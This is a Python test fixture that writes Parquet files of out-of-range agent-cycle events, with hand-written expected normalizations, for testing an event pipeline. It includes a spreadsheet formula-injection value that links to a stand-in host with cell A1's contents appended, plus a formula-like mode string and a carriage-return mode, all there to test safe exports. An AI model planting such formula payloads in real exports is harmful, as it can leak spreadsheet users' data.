"""A source folder holding values outside the event contract, each row with what docs/events.md
says it normalizes to, written by hand (the tests' oracle, not the normalization's own code).

Four files: an unstructured one (``__ingest_ts``, ``value`` JSON), a structured one (typed int64,
double and timestamp[us] columns at the extremes of their types), and structured ones with
timestamp[ns] and date32 columns. A dozen ordinary cycles beside them give every page something
to draw.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

I64_MAX = 2**63 - 1
I64_MIN = -(2**63)
AGENT = "did:cf:hostilehostilehostile01"
GOOD = "did:cf:goodgoodgoodgoodgood02"
FORMULA_AGENT = '=HYPERLINK("http://x.example/?"&A1,"open")'  # a formula cell for exports
CR_MODE = "think\rreflection"  # a bare CR inside a mode


@dataclass
class Expect:
    """What one hostile row normalizes to: its fields' values (None: NULL) and its flags."""

    duration_ms: int | None = None
    tool_calls: int | None = None
    errors: int | None = None
    ts_is_ingest: bool = True  # ts falls back to the landing time
    ingest_null: bool = False
    flags: set[str] = field(default_factory=set)


@dataclass
class HostileSet:
    src: Path
    now: datetime
    rows: int  # every row, each a parsed event
    flags: dict[str, int]  # expected out-of-range counts per ranges.FLAGS key
    expects: list[Expect]
    good_cycles: int


def _iso(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


def write_hostile_source(src: Path, now: datetime) -> HostileSet:
    """The three files under ``src``; returns what they must normalize to."""
    src.mkdir(parents=True, exist_ok=True)
    landed = now - timedelta(minutes=2)
    expects: list[Expect] = []
    values: list[str] = []

    def add(expect: Expect, **body: Any) -> None:
        event = {"event_type": "agent.cycle", "agent": AGENT, "mode": "think",
                 "durationMs": 1000, "toolCalls": 1, "errors": 0,
                 "_ts": _iso(now - timedelta(minutes=5))}  # fmt: skip
        event.update(body)
        event["seq"] = len(values)
        values.append(json.dumps(event))
        expects.append(expect)

    ok = {"duration_ms": 1000, "tool_calls": 1, "errors": 0}
    # ordinary cycles, some with a formula agent and a CR mode (the exports' hostile text)
    for i in range(12):
        agent = [GOOD, FORMULA_AGENT, GOOD][i % 3]
        mode = [CR_MODE, "think", "reflection", "-1+2"][i % 4]
        add(Expect(**ok, ts_is_ingest=False), agent=agent, mode=mode,
            _ts=_iso(now - timedelta(minutes=30 + i)))  # fmt: skip
    good_cycles = 12
    # _ts out of range: the landing time is used
    for ts in ("infinity", "294247-01-10T04:00:54.775806Z", "294247-06-01T00:00:00Z",
               "9999-12-31T23:59:59Z", _iso(now + timedelta(hours=1))):  # fmt: skip
        add(Expect(**ok, flags={"ts_future"}), _ts=ts)
    for ts in ("-infinity", "1999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "-290308-12-22"):
        add(Expect(**ok, flags={"ts_past"}), _ts=ts)
    # within the tolerance: kept as it is
    add(Expect(**ok, ts_is_ingest=False), _ts=_iso(landed + timedelta(minutes=9)))
    # numbers out of range: NULL
    for ms in (I64_MAX, I64_MIN, -5000, 1e308, 86_400_001, str(I64_MAX), 2**64, "-1e400"):
        add(Expect(tool_calls=1, errors=0, ts_is_ingest=False, flags={"durationMs"}), durationMs=ms)
    add(Expect(tool_calls=1, errors=0, ts_is_ingest=False), durationMs="n/a")  # not a number
    add(Expect(duration_ms=86_400_000, tool_calls=1, errors=0, ts_is_ingest=False),
        durationMs=86_400_000)  # fmt: skip
    add(Expect(duration_ms=1000, errors=0, ts_is_ingest=False, flags={"toolCalls"}),
        toolCalls=I64_MAX)  # fmt: skip
    add(Expect(duration_ms=1000, errors=0, ts_is_ingest=False, flags={"toolCalls"}), toolCalls=-1)
    add(Expect(duration_ms=1000, tool_calls=1, ts_is_ingest=False, flags={"errors"}),
        errors=I64_MAX)  # fmt: skip
    add(Expect(duration_ms=1000, tool_calls=1, ts_is_ingest=False, flags={"errors"}),
        errors=1_000_001)  # fmt: skip
    pq.write_table(
        pa.table({
            "__ingest_ts": pa.array([landed] * len(values), pa.timestamp("us", tz="UTC")),
            "value": pa.array(values, pa.string()),
        }),
        src / "unstructured.parquet",
    )  # fmt: skip

    # structured, typed at the extremes: (_ts µs, __ingest_ts µs, durationMs, toolCalls, errors)
    us = lambda t: int((t - datetime(1970, 1, 1, tzinfo=UTC)).total_seconds() * 1_000_000)  # noqa: E731
    good_us, land_us = us(now - timedelta(minutes=4)), us(landed)
    nan, inf = float("nan"), float("inf")
    typed = [
        (I64_MAX, land_us, I64_MAX, nan, I64_MAX,
         Expect(flags={"ts_future", "durationMs", "errors"})),
        (I64_MIN, land_us, I64_MIN, inf, -1,
         Expect(flags={"ts_past", "durationMs", "toolCalls", "errors"})),
        (0, land_us, -1, -inf, 3,
         Expect(errors=3, flags={"ts_past", "durationMs", "toolCalls"})),
        (us(datetime(9999, 12, 31, tzinfo=UTC)), land_us, 0, 1e300, 0,
         Expect(duration_ms=0, errors=0, flags={"ts_future", "toolCalls"})),
        (good_us, I64_MAX, 5, 2.0, 0,
         Expect(duration_ms=5, tool_calls=2, errors=0, ts_is_ingest=False, ingest_null=True,
                flags={"ingest_ts"})),
        (good_us, 0, 5, 2.4, 0,
         Expect(duration_ms=5, tool_calls=2, errors=0, ts_is_ingest=False, ingest_null=True,
                flags={"ingest_ts"})),
        (I64_MAX, I64_MIN, 5, -0.0, 0,
         Expect(duration_ms=5, tool_calls=0, errors=0, ts_is_ingest=True, ingest_null=True,
                flags={"ts_future", "ingest_ts"})),
    ]  # fmt: skip
    pq.write_table(
        pa.table({
            "__ingest_ts": pa.array([r[1] for r in typed], pa.timestamp("us", tz="UTC")),
            "event_type": ["agent.cycle"] * len(typed),
            "agent": [AGENT] * len(typed),
            "mode": ["think"] * len(typed),
            "durationMs": pa.array([r[2] for r in typed], pa.int64()),
            "toolCalls": pa.array([r[3] for r in typed], pa.float64()),
            "errors": pa.array([r[4] for r in typed], pa.int64()),
            "_ts": pa.array([r[0] for r in typed], pa.timestamp("us", tz="UTC")),
            "seq": pa.array(range(len(values), len(values) + len(typed)), pa.int64()),
        }),
        src / "structured.parquet",
    )  # fmt: skip
    expects = expects + [r[5] for r in typed]

    ns_rows = [
        (I64_MAX, Expect(flags={"ts_future"})),  # year 2262
        (I64_MIN, Expect(flags={"ts_past"})),  # year 1677
    ]
    pq.write_table(
        pa.table({
            "__ingest_ts": pa.array([us(landed) * 1000] * 2, pa.timestamp("ns", tz="UTC")),
            "event_type": ["agent.cycle"] * 2,
            "agent": [AGENT] * 2,
            "mode": ["think"] * 2,
            "_ts": pa.array([r[0] for r in ns_rows], pa.timestamp("ns", tz="UTC")),
            "seq": pa.array(range(len(expects), len(expects) + 2), pa.int64()),
        }),
        src / "structured_ns.parquet",
    )  # fmt: skip
    expects += [r[1] for r in ns_rows]

    # date32 columns at int32's ends (past a timestamp's range) beside an ordinary day
    days = [(2**31 - 1, Expect(duration_ms=1, ingest_null=True, flags={"ts_future", "ingest_ts"})),
            (-(2**31), Expect(duration_ms=2, ingest_null=True, flags={"ts_past", "ingest_ts"})),
            (20000, Expect(duration_ms=3))]  # fmt: skip
    pq.write_table(
        pa.table({
            "__ingest_ts": pa.array([d for d, _ in days], pa.date32()),
            "event_type": ["agent.cycle"] * 3,
            "agent": [AGENT] * 3,
            "mode": ["think"] * 3,
            "durationMs": pa.array([1, 2, 3], pa.int32()),
            "_ts": pa.array([d for d, _ in days], pa.date32()),
            "seq": pa.array(range(len(expects), len(expects) + 3), pa.int64()),
        }),
        src / "structured_date.parquet",
    )  # fmt: skip
    expects += [e for _, e in days]

    flags: dict[str, int] = {}
    for e in expects:
        for key in e.flags:
            flags[key] = flags.get(key, 0) + 1
    return HostileSet(src, now, len(expects), flags, expects, good_cycles)
